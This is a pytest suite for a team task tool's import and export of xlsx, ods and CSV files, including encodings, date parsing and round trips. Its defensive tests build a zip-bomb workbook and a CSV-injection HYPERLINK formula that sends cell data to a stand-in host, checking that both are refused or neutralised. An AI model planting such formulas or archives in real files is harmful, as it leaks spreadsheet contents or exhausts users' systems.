"""Importing the week's plan from real spreadsheets, and exporting it back.

Spreadsheets are made by openpyxl and by LibreOffice Calc headless (``soffice
--convert-to``); CSVs in the encodings office programs write on Windows. The
stores are real, the team is a real relay on a loopback port where membership
matters, and the CLI is the real one through CliRunner.
"""

from __future__ import annotations

import datetime as dt
import json
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from conftest import scaled_examples
from external import need
from hbw_sync.client import Device
from hbw_sync.client import exporter, importer
from hbw_sync.client.cli import cli as client_cli
from hbw_sync.client.importer import ImportOptions, values
from hbw_sync.errors import UsageError
from relay_helpers import FAST_KDF, Team

PASS = "orchid lantern 52 ferry"
TEAM = frozenset({"amina", "bosco", "chidi"})
DAY_FIRST = ImportOptions(new_members=TEAM, locale_day_first=True)


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = tmp_path / "dana"
    with Device.init(h, "dana", PASS, kdf=FAST_KDF) as dev:
        dev.unlock(PASS).create_team("District Finance")
    return h


def run(home: Path, *args: str, ok: bool = True, passphrase: str = PASS):
    env = {"HBW_SYNC_HOME": str(home), "HBW_PASSPHRASE": passphrase, "LANG": "fr_FR.UTF-8", "LC_ALL": "", "LC_TIME": ""}
    res = CliRunner().invoke(client_cli, list(args), env=env, catch_exceptions=False)
    assert (res.exit_code == 0) == ok, res.output
    return res


def tasks(home: Path, passphrase: str = PASS, **kw) -> dict[str, dict]:
    with Device.open(home) as dev:
        return {t.title: t.to_dict() for t in dev.unlock(passphrase).tasks(**kw)}


def do_import(home: Path, path: Path, opts: ImportOptions = DAY_FIRST, **kw) -> importer.ImportPlan:
    with Device.open(home) as dev:
        return importer.import_file(dev.unlock(PASS), path, opts, **kw)


def dana_workbook(path: Path) -> Path:
    """Dana's plan as Excel would hold it: a heading above the header, French headers in her order,
    date cells and dates typed as text, accents, a blank row, an extra empty column."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Semaine 49"
    ws.append(["Plan de la semaine 49"])
    ws.append([])
    ws.append(["Réf", "Tâche", "Responsable", "Échéance", "Priorité", "Besoins", "Commentaires", None])
    ws.append([1, "Tamponner les permis", "Bosco", dt.datetime(2026, 12, 7), "Normale", "bureau", "Guichet 2"])
    ws.append([2, "Rapprocher les factures d'octobre", "amina", "05/12/2026", "Urgente", "ordinateur, internet", None])
    ws.append([None, None, None, None, None, None, None])
    ws.append([3, "Préparer le budget", "CHIDI", "14.12.2026", "haute", "laptop", "Révision générale"])
    ws.append(["4", "Classer les archives", None, "12 déc. 2026", None, None, None])
    for cell in ws["D"][3:]:
        if isinstance(cell.value, dt.datetime):
            cell.number_format = "dd/mm/yyyy"
    wb.save(path)
    return path


def test_xlsx_from_openpyxl_with_french_headers_and_dates(home: Path, tmp_path: Path) -> None:
    plan = do_import(home, dana_workbook(tmp_path / "semaine.xlsx"))
    assert plan.count("create") == 4 and not plan.bad and plan.unit == "row"
    got = tasks(home)
    permits = got["Tamponner les permis"]
    assert permits["assignee"] == "bosco" and permits["due"] == "2026-12-07" and permits["needs"] == ["office"]
    assert permits["description"] == "Guichet 2" and permits["ref"] == "1"
    inv = got["Rapprocher les factures d'octobre"]
    assert inv["due"] == "2026-12-05" and inv["priority"] == "urgent" and set(inv["needs"]) == {"laptop", "internet"}
    assert got["Préparer le budget"]["due"] == "2026-12-14" and got["Préparer le budget"]["assignee"] == "chidi"
    assert got["Classer les archives"]["due"] == "2026-12-12" and got["Classer les archives"]["ref"] == "4"
    # Again: nothing new, nothing changed (matched by ref).
    again = do_import(home, tmp_path / "semaine.xlsx")
    assert again.count("unchanged") == 4 and again.count("create") == 0
    assert len(tasks(home)) == 4


CP1252_CSV = (
    "Titre;Assigné à;Date limite;Priorité;Besoins\r\n"
    "Vérifier les reçus;amina;05/12/2026;haute;ordinateur portable\r\n"
    "Déposer les chèques;bosco;07/12/2026;normale;bureau\r\n"
    "Réunion d'équipe — préparer l'ordre du jour;chidi;1/12/2026;basse;\r\n"
)


def test_windows_1252_semicolon_csv_with_day_first_dates(home: Path, tmp_path: Path) -> None:
    f = tmp_path / "semaine.csv"
    f.write_bytes(CP1252_CSV.replace("—", "-").encode("cp1252"))
    plan = do_import(home, f)
    assert "Windows-1252" in plan.source and "semicolon" in plan.source
    got = tasks(home)
    assert got["Vérifier les reçus"]["due"] == "2026-12-05" and got["Vérifier les reçus"]["needs"] == ["laptop"]
    assert got["Déposer les chèques"]["due"] == "2026-12-07"
    assert got["Réunion d'équipe - préparer l'ordre du jour"]["priority"] == "low"


@pytest.mark.parametrize("encoding,sep", [("utf-8-sig", ","), ("utf-8", ";"), ("utf-16", "\t"), ("latin-1", ",")])
def test_csv_encodings_and_separators(home: Path, tmp_path: Path, encoding: str, sep: str) -> None:
    rows = [["title", "assignee", "due"], ["Contrôle fiscal", "amina", "2026-12-05"], ["Dépôt, urgent", "bosco", ""]]
    text = "\r\n".join(sep.join(f'"{c}"' if sep in c or "," in c else c for c in r) for r in rows) + "\r\n"
    f = tmp_path / "plan.csv"
    f.write_bytes(text.encode(encoding))
    do_import(home, f)
    assert set(tasks(home)) == {"Contrôle fiscal", "Dépôt, urgent"}


def test_date_order_from_the_file_then_the_flag_then_the_locale(home: Path, tmp_path: Path) -> None:
    f = tmp_path / "us.csv"
    f.write_text("title,due\nA,12/25/2026\nB,05/12/2026\n")  # 25 cannot be a month: the file is month-first
    plan = do_import(home, f, ImportOptions(locale_day_first=True), dry_run=True)
    assert plan.date_order == "month first" and plan.rows[1].values["due"] == values.parse_due("2026-05-12", True)
    g = tmp_path / "ambiguous.csv"
    g.write_text("title,due\nA,05/12/2026\n")
    for opts, want in ((ImportOptions(locale_day_first=True), "2026-12-05"),
                       (ImportOptions(locale_day_first=False), "2026-05-12"),
                       (ImportOptions(day_first=False, locale_day_first=True), "2026-05-12")):
        plan = do_import(home, g, opts, dry_run=True)
        assert plan.rows[0].values["due"] == values.parse_due(want, True)
    assert values.locale_day_first({"LANG": "en_US.UTF-8"}) is False
    assert values.locale_day_first({"LC_ALL": "fr_FR.UTF-8", "LANG": "en_US.UTF-8"}) is True
    assert values.locale_day_first({}) is True
    assert values.locale_day_first({}, "English_United States") is False  # Windows names it so
    assert values.locale_day_first({}, "French_France") is True
    assert values.locale_day_first({}, "en_GB") is True


def test_bad_rows_are_listed_and_nothing_is_imported(tmp_path: Path) -> None:
    with Team(tmp_path) as team:
        dana = team.join("dana", "supervisor")
        for name in ("amina", "bosco", "chidi"):
            team.join(name)
        dana.sync()
        pw = dana.passphrase
        f = tmp_path / "week.csv"
        f.write_text("title,assignee,due,priority\n"
                     "Permits,bosco,07/12/2026,normal\n"
                     "Invoices,amnia,05/12/2026,urgent\n"  # misspelled
                     "Budget,chidi,31/11/2026,high\n"  # no such day
                     "Archive,chidi,08/12/2026,top\n"  # bad priority
                     "Returns,amina,09/12/2026,low\n")
        res = run(dana.home, "task", "import", str(f), ok=False, passphrase=pw)
        assert res.exit_code == 2
        assert "3 bad rows, nothing imported" in res.output
        assert "line 3: assignee 'amnia' is not in the team (did you mean 'amina'?)" in res.output
        assert "line 4: due '31/11/2026' is not a real date" in res.output
        assert "line 5: bad priority 'top'" in res.output
        assert tasks(dana.home, pw) == {}
        # The dry run shows what would happen to every row and changes nothing.
        dry = json.loads(run(dana.home, "task", "import", str(f), "--dry-run", "--json", passphrase=pw).stdout)
        assert dry["counts"] == {"create": 2, "update": 0, "unchanged": 0, "skip": 0, "bad": 3}
        assert [r["action"] for r in dry["rows"]] == ["create", "bad", "bad", "bad", "create"]
        assert dry["rows"][0]["values"]["due"] == "2026-12-07"
        text = run(dana.home, "task", "import", str(f), "--dry-run", passphrase=pw).stdout
        assert "line 2: create 'Permits', for bosco, due 2026-12-07" in text and "Dry run" in text
        assert tasks(dana.home, pw) == {}
        # --skip-bad imports the good rows and says what it left out.
        out = run(dana.home, "task", "import", str(f), "--skip-bad", passphrase=pw).stdout
        assert "left out, line 3" in out and "2 tasks created" in out
        assert set(tasks(dana.home, pw)) == {"Permits", "Returns"}


def test_reimport_updates_instead_of_duplicating(home: Path, tmp_path: Path) -> None:
    f = tmp_path / "week.csv"
    f.write_text("title,assignee,due\nPermits,bosco,2026-12-07\nInvoices,amina,2026-12-05\n")
    do_import(home, f)
    do_import(home, f)
    assert len(tasks(home)) == 2
    # Someone starts and finishes the work in the app; the sheet leaves status blank or says open.
    with Device.open(home) as dev:
        rep = dev.unlock(PASS)
        permits = next(t for t in rep.tasks() if t.title == "Permits")
        rep.set_status(permits.id, 2)
    f.write_text("title,assignee,due,status,description\n"
                 "Permits,chidi,2026-12-07,open,\nInvoices,amina,2026-12-05,,Check ward 2\n")
    plan = do_import(home, f)
    assert [r.action for r in plan.rows] == ["update", "update"]
    assert plan.rows[0].values == {"assignee": "chidi"}  # a re-import never reopens a done task
    got = tasks(home)
    assert len(got) == 2 and got["Permits"]["assignee"] == "chidi" and got["Permits"]["status"] == "done"
    assert got["Invoices"]["description"] == "Check ward 2"
    # The same title on another due date is another task.
    f.write_text("title,due\nPermits,2026-12-14\n")
    assert do_import(home, f).count("create") == 1


def test_duplicate_rows_and_deleted_tasks(home: Path, tmp_path: Path) -> None:
    f = tmp_path / "week.csv"
    f.write_text("ref,title\nA1,Permits\nA1,Permits again\n")
    with pytest.raises(UsageError) as e:
        do_import(home, f)
    assert "line 3: the same task as line 2 (same ref)" in e.value.message
    f.write_text("ref,title\nA1,Permits\nA2,Budget\n")
    do_import(home, f)
    with Device.open(home) as dev:
        rep = dev.unlock(PASS)
        rep.delete_task(next(t.id for t in rep.tasks() if t.title == "Budget"))
    plan = do_import(home, f)
    assert [r.action for r in plan.rows] == ["unchanged", "skip"] and "not brought back" in plan.rows[1].note
    assert set(tasks(home)) == {"Permits"}


def test_map_and_unknown_columns(home: Path, tmp_path: Path) -> None:
    f = tmp_path / "week.csv"
    f.write_text("Activité,Personne chargée,Bureau n°\nPermits,bosco,12\n")
    res = run(home, "task", "import", str(f), "--new-member", "bosco", ok=False)
    assert "unknown columns 'Personne chargée', 'Bureau n°'" in res.output
    run(home, "task", "import", str(f), "--new-member", "bosco", "--map", "personne chargee=assignee", "--map", "Bureau n°=-")
    assert tasks(home)["Permits"]["assignee"] == "bosco"
    res = run(home, "task", "import", str(f), "--map", "Personne chargée=owner", ok=False)
    assert "'owner' is not a task field" in res.output


def test_hostile_spreadsheets_are_refused_before_reading(home: Path, tmp_path: Path) -> None:
    import zipfile

    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (importer.tables.MAX_UNZIPPED + 1))
    assert bomb.stat().st_size < 1_000_000
    with pytest.raises(UsageError) as e:
        do_import(home, bomb)
    assert "would unpack to more than" in e.value.message
    fake = tmp_path / "plan.ods"
    fake.write_bytes(b"not a zip at all")
    with pytest.raises(UsageError) as e:
        do_import(home, fake)
    assert "not a readable spreadsheet" in e.value.message
    wide = tmp_path / "wide.csv"
    wide.write_text(",".join(["title"] + [f"c{i}" for i in range(100)]) + "\nA\n")
    with pytest.raises(UsageError) as e:
        do_import(home, wide)
    assert "more than 64 columns" in e.value.message
    assert tasks(home) == {}


def test_export_csv_and_xlsx_round_trip(home: Path, tmp_path: Path) -> None:
    do_import(home, dana_workbook(tmp_path / "semaine.xlsx"))
    run(home, "task", "export", str(tmp_path / "out.xlsx"))
    run(home, "task", "export", str(tmp_path / "out.csv"), "--separator", ";")
    assert run(home, "task", "export", str(tmp_path / "out.csv"), ok=False).exit_code == 2  # exists
    assert (tmp_path / "out.xlsx").stat().st_mode & 0o077 == 0  # the team's work in clear: owner only
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "Préparer le budget".encode() in raw
    # Importing either export changes nothing.
    for name in ("out.xlsx", "out.csv"):
        plan = do_import(home, tmp_path / name, ImportOptions(new_members=TEAM))
        assert plan.count("unchanged") == 4, plan.describe()
    # Dana edits the exported sheet: reassigns one task and moves its date; one update, by id.
    wb = load_workbook(tmp_path / "out.xlsx")
    ws = wb.active
    assert ws["F2"].is_date
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[header.index("title")].value == "Préparer le budget":
            row[header.index("assignee")].value = "amina"
            row[header.index("due")].value = dt.datetime(2026, 12, 18)
    wb.save(tmp_path / "edited.xlsx")
    plan = do_import(home, tmp_path / "edited.xlsx", ImportOptions(new_members=TEAM))
    assert plan.count("update") == 1 and plan.count("unchanged") == 3
    got = tasks(home)
    assert len(got) == 4 and got["Préparer le budget"]["assignee"] == "amina"
    assert got["Préparer le budget"]["due"] == "2026-12-18"


def _soffice(tmp_path: Path, src: Path, target: str, outdir: Path) -> Path:
    exe = need("libreoffice")
    profile = tmp_path / "lo-profile"
    subprocess.run([exe, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", target,
                    "--outdir", str(outdir), str(src)], check=True, capture_output=True, timeout=180)
    out = outdir / (src.stem + "." + target.split(":")[0])
    assert out.exists(), f"LibreOffice did not write {out.name}"
    return out


def test_spreadsheets_saved_by_libreoffice_calc(home: Path, tmp_path: Path) -> None:
    """Calc re-saves Dana's workbook as .ods and .xlsx, and as CSV the way it does on Windows
    (Windows-1252, ';'): each imports the same four tasks, and re-importing changes nothing."""
    src = dana_workbook(tmp_path / "semaine.xlsx")
    lo = tmp_path / "lo"
    lo.mkdir()
    ods = _soffice(tmp_path, src, "ods", lo)
    xlsx_dir = tmp_path / "lo-xlsx"
    xlsx_dir.mkdir()
    xlsx = _soffice(tmp_path, ods, "xlsx", xlsx_dir)
    # Filter options: separator 59 (';'), quote 34 ('"'), character set 1 (Windows-1252).
    csv_file = _soffice(tmp_path, ods, "csv:Text - txt - csv (StarCalc):59,34,1", lo)
    raw = csv_file.read_bytes()
    assert "Tâche".encode("cp1252") in raw  # really Windows-1252, not UTF-8
    expected = None
    for f in (ods, xlsx, csv_file):
        h = tmp_path / f"home-{f.suffix[1:]}-{f.parent.name}"
        with Device.init(h, "dana", PASS, kdf=FAST_KDF) as dev:
            dev.unlock(PASS).create_team("District Finance")
        plan = do_import(h, f)
        assert plan.count("create") == 4 and not plan.bad, plan.describe()
        got = {t: (v["assignee"], v["due"], v["priority"], v["ref"]) for t, v in tasks(h).items()}
        assert expected is None or got == expected, f.name
        expected = got
        assert do_import(h, f).count("unchanged") == 4
    assert expected is not None and expected["Rapprocher les factures d'octobre"][1] == "2026-12-05"
    assert expected["Tamponner les permis"] == ("bosco", "2026-12-07", "normal", "1")


def test_every_truncation_and_flipped_byte_of_a_workbook_is_a_clear_error_or_a_plan(tmp_path: Path) -> None:
    """Bounded before trusted: a damaged .xlsx (cut off by a mail gateway, a bad USB stick) gives a
    UsageError or reads; it never escapes as another exception (calamine's panics included)."""
    import random

    src = dana_workbook(tmp_path / "semaine.xlsx")
    data = src.read_bytes()
    rng = random.Random(13)
    cases = [data[:n] for n in range(0, len(data), max(1, len(data) // 60))]
    for _ in range(120):
        b = bytearray(data)
        b[rng.randrange(len(b))] ^= 1 << rng.randrange(8)
        cases.append(bytes(b))
    outcomes = {"plan": 0, "refused": 0}
    f = tmp_path / "damaged.xlsx"
    for c in cases:
        f.write_bytes(c)
        try:
            importer.plan_import(importer.read_table(f), [], TEAM, DAY_FIRST)
            outcomes["plan"] += 1
        except UsageError as e:
            assert e.message and "Traceback" not in e.message
            outcomes["refused"] += 1
    assert outcomes["refused"] > 0 and outcomes["plan"] > 0


def test_monday_forty_tasks_from_a_workbook_and_a_windows_csv_reach_every_device(tmp_path: Path) -> None:
    """USERS.md's Monday: the team joins, Dana imports 36 tasks from her .xlsx and 4 from the
    registry's Windows-1252 CSV, syncs, and each official's device shows their own work.
    Importing both files again changes nothing and sends nothing."""
    with Team(tmp_path) as team:
        dana = team.join("dana", "supervisor")
        members = {n: team.join(n) for n in ("amina", "bosco", "chidi")}
        dana.sync()  # learns who joined, shares the team key
        wb = Workbook()
        ws = wb.active
        ws.append(["Task", "Assigned to", "Due date", "Priority", "Needs"])
        monday = dt.date(2026, 12, 7)
        for i in range(36):
            who = ("amina", "chidi", "bosco")[i % 3]
            needs = "office" if who == "bosco" else "laptop, internet"
            ws.append([f"Week 50 task {i + 1:02d}", who.capitalize(), monday + dt.timedelta(days=i % 5),
                       ("Normal", "High", "Urgent")[i % 3], needs])
        wb.save(tmp_path / "week-50.xlsx")
        (tmp_path / "registre.csv").write_bytes(
            ("Titre;Responsable;Échéance;Besoins\r\n"
             + "".join(f"Registre n°{i};bosco;{7 + i:02d}/12/2026;bureau\r\n" for i in range(4))).encode("cp1252"))
        pw = dana.passphrase
        for name in ("week-50.xlsx", "registre.csv"):
            run(dana.home, "task", "import", str(tmp_path / name), passphrase=pw)
        dana.sync()
        with Device.open(dana.home) as dev:
            sent = dev.status()["outbox"]
        for name in ("week-50.xlsx", "registre.csv"):
            out = run(dana.home, "task", "import", str(tmp_path / name), passphrase=pw).stdout
            assert "0 tasks created, 0 updated" in out
        with Device.open(dana.home) as dev:
            assert dev.status()["outbox"] == sent  # nothing new to send
        for m in members.values():
            m.sync()
        counts = {}
        for name, m in members.items():
            mine = tasks(m.home, m.passphrase, mine=True)
            counts[name] = len(mine)
            if name == "bosco":
                assert all(t["needs"] == ["office"] for t in mine.values())
                assert mine["Registre n°3"]["due"] == "2026-12-10"
        assert counts == {"amina": 12, "chidi": 12, "bosco": 16}
        assert len(tasks(members["amina"].home, members["amina"].passphrase)) == 40


@pytest.mark.slow
@pytest.mark.skipif(not __import__("conftest").SLOW, reason="benchmark smoke run: HBW_SLOW_TESTS=1")
def test_bench_import_quick_runs(tmp_path: Path) -> None:
    """The import benchmark still runs (so it cannot rot); its timing targets are its own business."""
    import sys

    script = Path(__file__).resolve().parent.parent / "scripts" / "bench_import.py"
    res = subprocess.run([sys.executable, str(script), "--quick", "--json"], capture_output=True, text=True,
                         timeout=600)
    assert res.returncode in (0, 1), res.stderr  # 1 is a missed timing target, not a broken script
    out = json.loads(res.stdout)
    assert set(out["runs"]) == {"xlsx-40", "csv-40", "xlsx-500", "csv-500"}
    assert all(r["outbox_bytes_per_task"] > 0 for r in out["runs"].values())


_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40)


@settings(max_examples=scaled_examples(15), deadline=None)
@given(data=st.lists(st.fixed_dictionaries({
    "title": _text.filter(lambda t: not values.same_text(t, "")),  # something visible
    "description": _text,
    "assignee": st.sampled_from([None, "amina", "bosco", "dana"]),
    "due": st.one_of(st.none(), st.integers(19_000, 24_000)),
    "priority": st.integers(0, 3),
    "needs": st.integers(0, 7),
}), min_size=1, max_size=6), fmt=st.sampled_from(["xlsx", "csv,", "csv;", "csv\t"]))
def test_any_tasks_exported_then_imported_are_unchanged(tmp_path_factory, data, fmt: str) -> None:
    """Whatever people typed (quotes, separators, newlines, '=' at the start, any script), an export
    imported again matches every task and changes nothing."""
    where = tmp_path_factory.mktemp("export")
    out = where / f"out.{'xlsx' if fmt == 'xlsx' else 'csv'}"
    with Device.init(where / "h", "dana", PASS, kdf=FAST_KDF) as dev:
        rep = dev.unlock(PASS)
        rep.create_team("District Finance")
        rep.import_tasks(data, [])
        mine = rep.tasks(every=True)
        exporter.export_tasks(mine, out, separator=fmt[-1] if fmt != "xlsx" else ",")
        plan = importer.import_file(rep, out, ImportOptions(new_members=TEAM))
        assert plan.count("unchanged") == len(mine), plan.describe()


def test_exports_never_turn_a_colleagues_text_into_a_formula(home: Path, tmp_path: Path) -> None:
    """CSV injection: a title typed as '=HYPERLINK(...)' on another device must stay text in
    the supervisor's spreadsheet, and come back unchanged when the export is imported."""
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    with Device.open(home) as dev:
        rep = dev.unlock(PASS)
        rep.add_task(evil, description="+1 and -1 @here")
        mine = rep.tasks()
        exporter.export_tasks(mine, tmp_path / "out.csv")
        exporter.export_tasks(mine, tmp_path / "out.xlsx")
    text = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+1 and -1 @here" in text
    ws = load_workbook(tmp_path / "out.xlsx").active
    title = ws.cell(2, 3)
    assert title.value == evil and title.data_type == "s"
    for name in ("out.csv", "out.xlsx"):
        plan = do_import(home, tmp_path / name)
        assert plan.count("unchanged") == 1, plan.describe()
    assert set(tasks(home)) == {evil}
